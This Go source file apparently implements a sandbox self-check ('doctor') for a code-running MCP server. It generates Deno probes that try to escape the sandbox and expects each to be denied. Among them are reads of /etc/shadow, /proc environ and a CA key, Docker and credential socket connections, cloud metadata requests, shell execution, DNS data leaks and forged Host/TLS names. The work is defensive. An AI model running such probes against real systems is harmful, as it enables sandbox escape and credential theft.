package doctor

import (
	"context"
	"fmt"
	"net/http"
	"strings"

	"github.com/codeforge-mcp/codeforge/internal/secret"
	"github.com/codeforge-mcp/codeforge/sandbox-image/runapi"
)

// tryExpressions returns code that tries several expressions. Each must throw in time. With open (YOLO_MODE),
// connections to all addresses lead to the proxy. Then only an answer other than the proxy's refusal counts as a way
// out.
func tryExpressions(open bool, expressions ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "const open = %t;\n", open)
	b.WriteString(`async function reach(hostname, port) {
  const c = await Deno.connect({ hostname, port });
  if (!open) { c.close(); return "a connection"; }
  const head = "GET / HTTP/1.1\r\nHost: codeforge-doctor.invalid\r\nConnection: close\r\n\r\n";
  await c.write(new TextEncoder().encode(head));
  const b = new Uint8Array(2000), n = await c.read(b), text = new TextDecoder().decode(b.subarray(0, n ?? 0));
  c.close();
  const refusal = text.includes("codeforge-doctor.invalid") || /"code": ?"/.test(text);
  if (n === null || refusal) throw new Error("the proxy refuses");
  return text;
}
const tries = {
`)
	for _, e := range expressions {
		fmt.Fprintf(&b, "  %q: async () => %s,\n", e, e)
	}
	b.WriteString(`};
const say = (held, seen) => console.log(JSON.stringify({ held, seen }));
for (const [name, f] of Object.entries(tries)) {
  let timer;
  const silence = new Promise((_, no) => { timer = setTimeout(() => no(new Error("silence")), 2500); });
  try { say(false, name + " gave " + String(await Promise.race([f(), silence])).slice(0, 60)); }
  catch (e) {
    const typo = e instanceof ReferenceError || e instanceof SyntaxError ||
      e instanceof TypeError && /is not a (function|constructor)|Cannot read/.test(e.message);
    say(!typo, typo ? name + " was not tried: " + e.message : String(e?.name ?? e));
  }
  clearTimeout(timer);
}
`)
	return b.String()
}

// fetchExpression returns an expression that throws if the request is refused in any way.
func fetchExpression(request string) string {
	return `fetch(` + request + `).then(async (r) => { await r.body?.cancel(); ` +
		`if (r.status >= 400) throw new Error("refused"); return r.status; })`
}

// readExpressions returns expressions that read files.
func readExpressions(paths ...string) (out []string) {
	for _, p := range paths {
		out = append(out, fmt.Sprintf("Deno.readTextFile(%q)", p))
	}
	return out
}

// connectExpressions returns expressions that connect to unix sockets.
func connectExpressions(paths ...string) (out []string) {
	for _, p := range paths {
		out = append(out, fmt.Sprintf(`Deno.connect({ transport: "unix", path: %q })`, p))
	}
	return out
}

// askExpression returns an expression that asks for a permission.
func askExpression(permission string) string {
	return `Deno.permissions.request(` + permission + `).then((r) => ` +
		`{ if (r.state !== "granted") throw new Error(r.state); })`
}

// listAttacks lists the attacks on a target.
func listAttacks(t attackTarget) []attackAttempt {
	var list []attackAttempt
	for _, more := range [][]attackAttempt{
		networkAttacks(t), permissionAttacks(t), textImports(), memoryAttacks(t), forgedNames(t), requestAttacks(t),
		endpointAttacks(t),
	} {
		list = append(list, more...)
	}
	return list
}

// noWayOut is the expected result of connections.
const noWayOut = "no way out"

func (t attackTarget) newAttack(name, expected string, expressions ...string) attackAttempt {
	return attackAttempt{name: name, expected: expected, code: tryExpressions(t.open, expressions...)}
}

// networkAttacks look for ways out other than the proxy.
func networkAttacks(t attackTarget) []attackAttempt {
	return []attackAttempt{
		t.newAttack("a host in no API", "refused",
			fetchExpression(`"https://codeforge-doctor.invalid/"`),
			fetchExpression(`"http://codeforge-doctor.invalid/"`),
			fetchExpression(`"https://192.0.2.1/"`),
			fetchExpression(`"https://codeforge-doctor.invalid/", { headers: { Authorization: "Bearer CODEFORGE_DOCTOR_TOKEN" } }`)),
		t.newAttack("TCP to outside addresses", noWayOut,
			`reach("192.0.2.1", 443)`, `reach("198.51.100.1", 22)`, `reach("203.0.113.1", 53)`),
		t.newAttack("cloud metadata", noWayOut,
			`reach("169.254.169.254", 80)`,
			fetchExpression(`"http://169.254.169.254/latest/meta-data/"`),
			fetchExpression(`"http://metadata.google.internal/"`),
			fetchExpression(`"http://100.100.100.200/"`)),
		t.newAttack("the proxy, mcp-server and the host by address", noWayOut,
			`reach("10.77.0.2", 8080)`, `reach("10.77.0.3", 80)`, `reach("10.77.0.1", 22)`, `reach("localhost", 8080)`,
			fetchExpression(`"http://mcp-server:8080/mcp"`),
			fetchExpression(`"http://host.docker.internal/"`),
			fetchExpression(`"http://gateway.docker.internal/"`)),
		t.newAttack("IPv6", noWayOut, `reach("2001:db8::1", 443)`, `reach("::1", 8080)`, `reach("fe80::1", 80)`),
		t.newAttack("UDP", noWayOut, `import("node:dgram").then((d) => new Promise((ok, no) => {
    const s = d.createSocket("udp4");
    s.on("error", no);
    s.on("message", ok);
    s.send("x", 53, "192.0.2.1", (e) => { if (e) no(e); });
    setTimeout(() => { s.close(); no(new Error("silence")); }, 1000);
  }))`),
		// With YOLO_MODE every name resolves to an address of the proxy, without a query leaving the machine.
		t.newAttack("DNS names that carry data", "never looked up",
			`Deno.resolveDns("data.codeforge-doctor.invalid", "A").then((a) => {
    if (a.every((x) => /^(127|198\.18)\./.test(x))) throw new Error("the proxy's own address");
    return a;
  })`,
			`Deno.resolveDns("data.codeforge-doctor.invalid", "TXT")`,
			`Deno.resolveDns("data.codeforge-doctor.invalid", "TXT", { nameServer: { ipAddr: "127.0.0.11", port: 53 } })`,
			`Deno.resolveDns("data.codeforge-doctor.invalid", "MX", { nameServer: { ipAddr: "192.0.2.1", port: 53 } })`),
		t.newAttack("remote imports", noWayOut,
			`import("https://codeforge-doctor.invalid/x.js")`,
			`import("npm:codeforge-doctor-none")`,
			`import("jsr:@codeforge-doctor/none")`),
	}
}

// permissionAttacks try to open, start and write things outside the sandbox, and to exceed its limits.
func permissionAttacks(t attackTarget) []attackAttempt {
	list := []attackAttempt{
		t.newAttack("sockets of the daemons and of Docker", noWayOut, append(
			connectExpressions("/var/run/docker.sock", "/run/codeforge/shim/docker.sock", "/run/codeforge/control/proxy.sock",
				"/run/codeforge/credentials/credentials.sock", "/run/sandboxd/sandboxd.sock", "/dev/shm/run/control.sock",
				"/dev/shm/logins/credentials.sock"),
			`new Promise((ok, no) => import("node:net").then((n) =>
    n.connect("/dev/shm/run/sandboxd.sock").on("connect", () => ok("connected")).on("error", no)))`)...),
		t.newAttack("reading /etc and other files", "denied",
			readExpressions("/etc/passwd", "/etc/shadow", "/etc/resolv.conf",
				"/tmp/../etc/passwd", "/skills/../etc/passwd", "/dev/shm/ca/ca.key", "/apis", "/dev/mem",
				"/sys/kernel/notes", "/var/lib/codeforge/tokens")...),
		t.newAttack("reading /proc", "denied", readExpressions("/proc/1/environ", "/proc/self/environ", "/proc/self/maps",
			"/proc/self/mountinfo", "/proc/net/tcp", "/proc/1/cmdline")...),
		{
			name: "importing files about the machine", expected: "not found", judge: moduleNotLoaded,
			code: `import text from "/proc/1/mountinfo" with { type: "text" }; console.log(text.length);`,
		},
		t.newAttack("writing outside", "denied", `Deno.writeTextFile("/etc/x", "y")`, `Deno.writeTextFile("/runs/x", "y")`,
			`Deno.writeTextFile("/x", "y")`, `Deno.mkdir("/runs/codeforge-doctor")`),
		t.newAttack("environment, programs, foreign functions", "denied",
			`Deno.env.toObject()`, `Deno.env.get("PATH")`,
			`new Deno.Command("sh", { args: ["-c", "id"] }).output()`,
			`import("node:child_process").then((c) => c.execSync("id"))`,
			`Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } })`,
			`Deno.hostname()`, `Deno.networkInterfaces()`, `Deno.uid()`, `Deno.kill(1, "SIGKILL")`),
		t.newAttack("asking for more permissions", "denied", askExpression(`{ name: "run" }`),
			askExpression(`{ name: "read", path: "/etc" }`)),
		t.newAttack("links out of /tmp and /skills", "denied",
			`Deno.symlink("/etc/passwd", "/tmp/codeforge-doctor-a")`,
			`Deno.link("/etc/passwd", "/tmp/codeforge-doctor-b")`,
			`Deno.symlink("/etc/passwd", "/skills/codeforge-doctor.ts")`),
		{
			name: "an endless loop", expected: "ended at its time limit", code: "for (;;) {}", seconds: 2,
			judge: endedBy(runapi.Timeout),
		},
		{
			name: "a flood of output", expected: "bounded", judge: outputBounded,
			code: `const line = "x".repeat(1000); for (let i = 0; i < 20000; i++) console.log(line);`,
		},
	}
	if !t.open { // with YOLO_MODE code may listen in its own slot
		list = append(list, t.newAttack("listening for other slots", "denied",
			`Deno.listen({ hostname: "0.0.0.0", port: 18080 })`,
			`Deno.listen({ transport: "unix", path: "/tmp/codeforge-doctor.sock" })`,
			`Deno.serve({ port: 18082 }, () => new Response("x"))`))
	}
	return list
}

// textImports import files as text, which no read permission covers.
func textImports() []attackAttempt {
	var list []attackAttempt
	for _, path := range []string{"/etc/shadow", "/proc/1/environ", "/dev/shm/ca/ca.key", "/apis/config.json"} {
		list = append(list, attackAttempt{
			name: "importing " + path + " as text", expected: "denied", judge: nothingRead,
			code: fmt.Sprintf("import t from %q with { type: \"text\" };\n", "file://"+path) +
				`console.log(JSON.stringify({ held: t.trim() === "", seen: t.length + " bytes" }));`,
		})
	}
	return list
}

// pieceSize is the size of one allocation of memoryAttacks, in bytes.
const pieceSize = 32 << 20

// memoryAttacks take twice a run's memory, outside the heap that the interpreter bounds itself.
func memoryAttacks(t attackTarget) []attackAttempt {
	if t.memory == 0 {
		return nil
	}
	row := func(name, piece string) attackAttempt {
		code := fmt.Sprintf(`const keep = [];
for (let n = 0; n < %d; n++) { const b = %s; for (let i = 0; i < b.length; i += 4096) b[i] = 1; keep.push(b); }
console.log("took " + keep.length);`, 2*t.memory/pieceSize+1, piece)
		return attackAttempt{name: name, expected: "ended at its limit", code: code, seconds: 30, judge: endedBy(runapi.OOM)}
	}
	return []attackAttempt{
		row("buffers of twice a run's memory", fmt.Sprintf("new Uint8Array(%d)", pieceSize)),
		row("WebAssembly memory of twice a run's memory",
			fmt.Sprintf("new Uint8Array(new WebAssembly.Memory({ initial: %d }).buffer)", pieceSize>>16)),
	}
}

// forgedNames attack the proxy with names in the handshake and in Host that do not belong together.
func forgedNames(t attackTarget) []attackAttempt {
	if t.host == "" {
		return nil
	}
	const caught = `catch (e) { console.log(JSON.stringify({ held: true, seen: String(e?.name ?? e) })); }`
	// The proxy may complete a handshake for any name, so that it can explain its refusal.
	request := func(serverName string) string {
		return fmt.Sprintf(`try {
  const c = await Deno.startTls(await Deno.connect({ hostname: %q, port: 443 }), { hostname: %q });
  const head = "GET / HTTP/1.1\r\nHost: codeforge-doctor.invalid\r\nConnection: close\r\n\r\n";
  await c.write(new TextEncoder().encode(head));
  const b = new Uint8Array(400), n = await c.read(b);
  const line = new TextDecoder().decode(b.subarray(0, n ?? 0)).split("\r\n")[0];
  console.log(JSON.stringify({ held: / [45]\d\d /.test(line), seen: line }));
} %s`, t.host, serverName, caught)
	}
	ports := fmt.Sprintf(`for (const port of [22, 25, 8080, 8443, 2375]) {
  try {
    const silence = new Promise((_, no) => setTimeout(() => no(new Error("silence")), 2000));
    const c = await Promise.race([Deno.connect({ hostname: %q, port }), silence]);
    c.close();
    console.log(JSON.stringify({ held: false, seen: port + " is open" }));
  } %s
}`, t.host, caught)
	return []attackAttempt{
		{name: "a false server name on an API's address", expected: "refused", code: request("codeforge-doctor.invalid")},
		{name: "a false Host on an API's connection", expected: "refused", code: request(t.host)},
		{name: "other ports of an API's host", expected: noWayOut, code: ports},
	}
}

// endpointAttacks attack the MCP endpoint.
func endpointAttacks(t attackTarget) []attackAttempt {
	header := func(name, value string) func(*http.Request) {
		return func(r *http.Request) { r.Header.Set(name, value) }
	}
	foreignHost := func(r *http.Request) { r.Host = "codeforge-doctor.invalid" }
	list := []attackAttempt{
		newForbiddenAttack("MCP endpoint: a foreign Host (DNS rebinding)", foreignHost),
		newForbiddenAttack("MCP endpoint: a web page's Origin", header("Origin", "https://codeforge-doctor.invalid")),
		newForbiddenAttack("MCP endpoint: a cross-site request", header("Sec-Fetch-Site", "cross-site")),
	}
	// Without a token the endpoint accepts this user, so there is no 401 to expect.
	if t.token.IsEmpty() {
		return list
	}
	for _, b := range []struct{ name, token string }{
		{"no bearer token", ""},
		{"a wrong bearer token", "codeforge-doctor"},
	} {
		do := func(ctx context.Context, t attackTarget) (string, bool) {
			status, err := sendInitialize(ctx, t, secret.New(b.token), func(*http.Request) {})
			return fmt.Sprint(status), err == nil && status == http.StatusUnauthorized
		}
		list = append(list, attackAttempt{name: "MCP endpoint: " + b.name, expected: "401", do: do})
	}
	return list
}
